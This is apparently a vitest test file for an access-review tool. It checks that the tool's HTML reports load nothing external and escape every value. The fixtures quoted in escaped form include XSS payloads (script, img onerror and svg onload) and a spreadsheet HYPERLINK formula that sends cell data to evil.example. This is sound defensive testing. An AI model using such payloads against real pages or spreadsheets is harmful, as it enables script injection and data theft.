// The HTML report and review evidence: one file each, nothing fetched, every value escaped.
// (test/render/html-chromium.test.ts opens them in a real browser.)
import { createHash } from 'node:crypto';
import { describe, expect, test } from 'vitest';
import { esc, renderAccessHtml, renderReviewHtml } from '../../src/render/html.js';
import { HOSTILE, hostileEvidence, hostileReport } from '../support/review-fixture.js';

const TAGS = new Set([
  'html',
  'head',
  'meta',
  'title',
  'style',
  'body',
  'header',
  'h1',
  'h2',
  'p',
  'dl',
  'dt',
  'dd',
  'ul',
  'li',
  'span',
  'table',
  'thead',
  'tbody',
  'tr',
  'th',
  'td',
  'code',
  'b',
  'br',
  'div',
  'footer',
  'section',
]);

function checkSelfContained(html: string): void {
  // Values are escaped, so every `<` in the file opens a real tag and its attributes end at `>`.
  const tags = [...html.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9-]*)([^>]*)>/g)];
  expect([...new Set(tags.map((m) => m[1]!.toLowerCase()))].filter((t) => !TAGS.has(t))).toEqual([]);
  const attributes = new Set(tags.flatMap((m) => [...m[2]!.replace(/"[^"]*"/g, '""').matchAll(/([^\s=]+)=/g)].map((a) => a[1]!.toLowerCase())));
  expect([...attributes].sort()).toEqual(['charset', 'class', 'content', 'data-row', 'http-equiv', 'lang', 'name']);
  expect(html).not.toMatch(/url\(|@import|https?:\/\/(?!evil\.example)/i);
  const csp = /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(html)?.[1];
  expect(csp).toMatch(/^default-src 'none'; style-src 'sha256-[A-Za-z0-9+/=]+';/);
  const style = /<style>([\s\S]*?)<\/style>/.exec(html)![1]!;
  expect(csp).toContain(`'sha256-${createHash('sha256').update(style).digest('base64')}'`);
  expect(html.match(/<style>/g)).toHaveLength(1);
}

describe('renderAccessHtml', () => {
  const report = hostileReport();
  const html = renderAccessHtml(report);

  test('is one file that loads nothing: no script, no link, only its own stylesheet by hash', () => {
    checkSelfContained(html);
  });

  test('escapes every value: names, filters, limits, invariants', () => {
    expect(html).not.toContain('<script>');
    expect(html).not.toContain('<img');
    expect(html).toContain(esc(HOSTILE));
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;&quot;&#39;&gt;&lt;img src=x onerror=alert(2)&gt;');
    expect(html).toContain('principal &quot;&gt;&lt;b&gt;x&lt;/b&gt;');
    expect(html).toContain('bucket &lt;i&gt;ai&lt;/i&gt;: no permission to read its policy');
    expect(html).toContain('no-&lt;u&gt;public&lt;/u&gt;');
  });

  test('has a row per report row, with its status, and the summary counts', () => {
    expect(html.match(/<tr data-row=/g)).toHaveLength(report.rows.length);
    for (const r of report.rows) expect(html).toContain(`<tr data-row="${esc(r.id)}">`);
    expect(html).toContain('<span class="badge b-actual">actual only</span>');
    expect(html).toContain('<span class="badge b-both">both</span>');
    expect(html).toContain(`<span class="n">${report.rows.length}</span><span class="l">rows</span>`);
    expect(html).toContain('<span class="n">1</span><span class="l">invariants broken</span>');
  });

  test('says so when nothing matches', () => {
    const empty = renderAccessHtml({ ...report, rows: [], limits: [], invariants: [] });
    expect(empty).toContain('No access matches.');
    expect(empty).toContain('No invariant is broken.');
    expect(empty).toContain('every backend was read in full');
  });
});

describe('renderReviewHtml', () => {
  const e = hostileEvidence();
  const html = renderReviewHtml(e);

  test('is one file that loads nothing, with every value escaped', () => {
    checkSelfContained(html);
    expect(html).not.toContain('<script>');
    expect(html).not.toContain('<svg');
    expect(html).toContain('&lt;svg onload=alert(3)&gt;');
    expect(html).toContain('auditor &quot;&lt;q&gt;&quot;@cli');
    expect(html).toContain('=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;x&quot;) &lt;b&gt;no longer on the team&lt;/b&gt;');
  });

  test('shows the manifest, the decisions with their flags, and the removal with its audit entry', () => {
    expect(html.match(/<tr data-row=/g)).toHaveLength(e.rows.length);
    expect(html).toContain(`<code>${e.manifest.populationSha256}</code>`);
    expect(html).toContain(`#9 <code>${'f'.repeat(64)}</code>`);
    expect(html).toContain('<span class="badge b-self">self-review</span>');
    expect(html).toContain('<span class="badge b-behalf">on behalf</span> decision recorded on behalf of carol by ci@cli');
    expect(html).toContain('recorded by alice@example.com');
    expect(html).toContain('decision recorded on behalf of &lt;svg onload=alert(3)&gt; by &lt;i&gt;x&lt;/i&gt;@cli');
    expect(html).toContain('<span class="badge b-contested">contested</span>');
    expect(html).toContain(
      '<span class="badge b-removed">removed</span><br>audit #20 · 2026-12-03T10:00:00.000Z · ci@cli<br><code>change.delete aws:membership/ml-researchers/alice</code>',
    );
    expect(html).toContain('<span class="badge b-ok">verified</span> 21 entries');
    expect(html).toContain('<span class="badge b-ok">matches</span>');
    expect(html).not.toContain('does not match the audit chain');
    expect(html).toContain(`<span class="muted">observed gone at ${e.checkedAt}</span>`);
    expect(html).toContain('<h2>Invariants broken (1)</h2>');
    expect(html).toContain('no-&lt;u&gt;public&lt;/u&gt;');
  });
});
